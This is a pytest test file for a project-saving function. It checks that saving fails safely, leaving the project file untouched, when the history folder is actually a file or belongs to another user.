def test_save_refuses_a_history_folder_that_is_a_file(sample_copy: Path) -> None:
    from cjm_helpers.errors import SaveFailed
    from cjm_helpers.store import history_dir

    history_dir(sample_copy).write_text("not a folder\n", encoding="utf-8")
    before = sample_copy.read_bytes()
    with pytest.raises(SaveFailed, match="is not a folder; nothing was saved"):
        save_project(load_project(sample_copy).model_copy(update={"name": "Renamed"}), sample_copy)
    assert sample_copy.read_bytes() == before


@pytest.mark.skipif(
    not hasattr(__import__("os"), "geteuid") or __import__("os").geteuid() != 0,
    reason="giving a folder to another user needs root (CI runs as root)",
)
def test_save_refuses_another_users_history_folder(sample_copy: Path) -> None:
    import os

    from cjm_helpers.errors import SaveFailed
    from cjm_helpers.store import history_dir

    folder = history_dir(sample_copy)
    folder.mkdir()
    os.chown(folder, 65534, 65534)
    before = sample_copy.read_bytes()
    with pytest.raises(SaveFailed, match="belongs to another user"):
        save_project(load_project(sample_copy).model_copy(update={"name": "Renamed"}), sample_copy)
    assert sample_copy.read_bytes() == before
